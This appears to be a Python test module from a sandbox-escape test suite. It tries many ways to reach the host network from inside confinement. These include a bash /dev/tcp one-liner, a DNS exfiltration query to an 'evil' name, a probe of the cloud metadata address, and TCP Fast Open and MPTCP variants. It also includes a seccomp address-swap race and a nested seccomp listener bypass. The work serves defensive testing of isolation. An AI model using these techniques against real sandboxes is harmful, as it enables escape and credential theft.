"""Attempts to reach the host's IP stack: TCP in all its ways, UDP, names, and from outside in.

Run inside; the host's listeners wait with nobody answering, and are looked at afterwards. Next: families.py,
rings.py (io_uring), sockets.py (AF_UNIX).
"""

from __future__ import annotations

import ctypes
import mmap
import os
import select
import signal
import socket
import subprocess
import threading
import time
from typing import NoReturn

from tests.end_to_end.escape.attempts import Blocked, Escaped, Ground, Kind, Missing, Setting, attempt
from tests.end_to_end.escape.calls import checked, libc, loopback, number, system_call
from tests.end_to_end.escape.evidence import arrived

TO_TCP = attempt(Kind.NET, arrived("tcp"))
TO_UDP = attempt(Kind.NET, arrived("udp"))
MSG_FASTOPEN, TCP_FASTOPEN_CONNECT, IPPROTO_MPTCP = 0x2000_0000, 30, 262
CONNECT_S = 2.0
RACES = 300
RACE_LIMIT_S = 10.0


def stream(family: int = socket.AF_INET, protocol: int = 0) -> socket.socket:
    sock = socket.socket(family, socket.SOCK_STREAM, protocol)
    sock.settimeout(CONNECT_S)
    return sock


def reach(host: str, port: int, family: int = socket.AF_INET, protocol: int = 0) -> None:
    with stream(family, protocol) as sock:
        sock.connect((host, port))
        sock.send(b"x")


@TO_TCP
def tcp_direct(ground: Ground) -> None:
    reach("127.0.0.1", ground.ports["tcp"])


@attempt(Kind.NET, arrived("tcp6"))
def tcp_direct_v6(ground: Ground) -> None:
    reach("::1", with_ipv6(ground, "tcp6"), socket.AF_INET6)


def with_ipv6(ground: Ground, name: str) -> int:
    if name not in ground.ports:
        raise Missing("no IPv6")
    return ground.ports[name]


@TO_TCP
def tcp_v4mapped(ground: Ground) -> None:
    reach("::ffff:127.0.0.1", ground.ports["tcp"], socket.AF_INET6)


@TO_TCP
def tcp_from_bash(ground: Ground) -> None:
    words = ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{ground.ports['tcp']}; echo x >&3"]
    done = subprocess.run(words, stderr=subprocess.PIPE, check=False)
    if done.returncode:
        raise Blocked(done.stderr.decode()[-60:].strip())


@attempt(Kind.NET, arrived("same"))
def tcp_other_host_proxy_port(ground: Ground) -> None:
    reach("127.0.0.2", ground.ports["proxy"])


@attempt(Kind.NET, arrived("proxy"))
def tcp_proxy_as_nobody(ground: Ground) -> None:
    """The data port itself and not this sandbox's listener: then the proxy knows not who it is."""
    reach("127.0.0.1", ground.ports["proxy"])


@attempt(Kind.NET, arrived("control"))
def tcp_control_with_token(ground: Ground) -> None:
    with stream() as sock:
        sock.connect(("127.0.0.1", ground.ports["control"]))
        sock.send(
            b"GET /status HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n" % ground.token.encode()
        )


@attempt(Kind.NET, arrived("second"))
def tcp_second_service(ground: Ground) -> None:
    reach("127.0.0.1", ground.ports["second"])


@attempt(Kind.NET, only_confined=True)
def tcp_metadata_address(ground: Ground) -> None:
    """Of a cloud, where a host's credentials are. Never waited for: one packet would be the escape."""
    with stream() as sock:
        sock.setblocking(False)
        try:
            sock.connect(("169.254.169.254", 80))
        except BlockingIOError:
            raise Escaped("a connect is under way") from None
    raise Escaped("connected")


@TO_TCP
def tcp_fastopen_sendto(ground: Ground) -> None:
    with stream() as sock:
        sock.sendto(b"hello", MSG_FASTOPEN, ("127.0.0.1", ground.ports["tcp"]))


@TO_TCP
def tcp_fastopen_sendmsg(ground: Ground) -> None:
    with stream() as sock:
        sock.sendmsg([b"hello"], [], MSG_FASTOPEN, ("127.0.0.1", ground.ports["tcp"]))


@TO_TCP
def tcp_fastopen_sendmmsg(ground: Ground) -> None:
    address = ctypes.create_string_buffer(loopback(ground.ports["tcp"]))
    text = ctypes.create_string_buffer(b"hello")
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(text), 5)
    # struct mmsghdr: name and its length, vector and its length, control and its length, flags; sent
    header = (ctypes.c_size_t * 8)(ctypes.addressof(address), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
    with stream() as sock:
        sock.setblocking(True)
        checked(libc.sendmmsg(sock.fileno(), header, 1, MSG_FASTOPEN))


@TO_TCP
def tcp_fastopen_option(ground: Ground) -> None:
    with stream() as sock:
        sock.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        sock.connect(("127.0.0.1", ground.ports["tcp"]))
        sock.send(b"hello")


@TO_TCP
def mptcp_connect(ground: Ground) -> None:
    reach("127.0.0.1", ground.ports["tcp"], protocol=IPPROTO_MPTCP)


@TO_TCP
def smc_connect(ground: Ground) -> None:
    with socket.socket(43, socket.SOCK_STREAM, 0) as sock:
        sock.settimeout(CONNECT_S)
        checked(libc.connect(sock.fileno(), loopback(ground.ports["tcp"]), 16))
        sock.send(b"x")


@TO_TCP
def connect_address_race(ground: Ground) -> None:
    """The address names the proxy when it is judged, and another port when it is used: seccomp_unotify(2)."""
    allowed, other = (loopback(ground.ports[name]) for name in ("proxy", "tcp"))
    memory = mmap.mmap(-1, mmap.PAGESIZE)  # shared with the process that swaps
    ready, told = os.pipe()
    swapper = os.fork()
    if swapper == 0:
        swap(memory, allowed, other, told)
    os.read(ready, 1)
    pointer = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    for _ in range(RACES):
        with stream() as sock:
            sock.setblocking(True)
            libc.connect(sock.fileno(), pointer, len(allowed))
        os.sched_yield()
    os.kill(swapper, signal.SIGKILL)
    os.waitpid(swapper, 0)


def swap(memory: mmap.mmap, allowed: bytes, other: bytes, told: int) -> NoReturn:
    end = time.monotonic() + RACE_LIMIT_S
    while time.monotonic() < end:
        memory[: len(other)] = other
        memory[: len(allowed)] = allowed
        if told >= 0:
            os.write(told, b"r")
            told = -1
    os._exit(0)


@TO_TCP
def seccomp_own_listener(ground: Ground) -> None:
    """Where listeners nest, the later one answers: it could let the connect go on as it is."""
    connect = number(42, 203)
    # load the number; is it connect? USER_NOTIF : ALLOW
    lines = ((0x20, 0, 0, 0), (0x15, 0, 1, connect), (0x06, 0, 0, 0x7FC0_0000), (0x06, 0, 0, 0x7FFF_0000))
    code = ctypes.create_string_buffer(b"".join(bpf_line(*line) for line in lines))
    program = (ctypes.c_size_t * 2)(len(lines), ctypes.addressof(code))
    checked(libc.prctl(38, 1, 0, 0, 0))  # no_new_privs, without which nobody may
    notices = system_call(number(317, 277), 1, 1 << 3, ctypes.string_at(program, 16))
    # The filter is this thread's and its threads', and reading notices needs no connect.
    caller = threading.Thread(target=reach, args=("127.0.0.1", ground.ports["tcp"]), daemon=True)
    caller.start()
    waiting = select.poll()
    waiting.register(notices, select.POLLIN)
    if not waiting.poll(CONNECT_S * 1000):
        raise Blocked("the connect was not made")
    notice = ctypes.create_string_buffer(80)
    checked(libc.ioctl(notices, ctypes.c_ulong(0xC050_2100), notice))
    go_on = ctypes.create_string_buffer(notice.raw[:8] + bytes(12) + b"\1\0\0\0")
    checked(libc.ioctl(notices, ctypes.c_ulong(0xC018_2101), go_on))
    caller.join(CONNECT_S)


def bpf_line(code: int, yes: int, no: int, value: int) -> bytes:
    return code.to_bytes(2, "little") + bytes((yes, no)) + value.to_bytes(4, "little")


@TO_UDP
def udp_sendto(ground: Ground) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"x", ("127.0.0.1", ground.ports["udp"]))


@attempt(Kind.NET, arrived("udp6"))
def udp_sendto_v6(ground: Ground) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"x", ("::1", with_ipv6(ground, "udp6")))


@TO_UDP
def dns_exfil(ground: Ground) -> None:
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x06secret\x04evil\x04test\0\0\x10\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("127.0.0.1", ground.ports["udp"]))
        sock.send(question)


def wait_to_be_reached(sock: socket.socket) -> None:
    print(f"PORT {sock.getsockname()[1]}", flush=True)
    os.read(0, 1)  # ends when the host has tried


@attempt(Kind.NET, arrived("inbound"), Setting.KNOCKED)
def tcp_listen_inbound(ground: Ground) -> None:
    with stream() as sock:
        sock.bind(("0.0.0.0", 0))
        sock.listen(1)
        wait_to_be_reached(sock)


@attempt(Kind.NET, arrived("inbound"), Setting.KNOCKED)
def tcp_listen_autobind(ground: Ground) -> None:
    """listen(2) without a bind takes a port by itself."""
    with stream() as sock:
        sock.listen(1)
        wait_to_be_reached(sock)
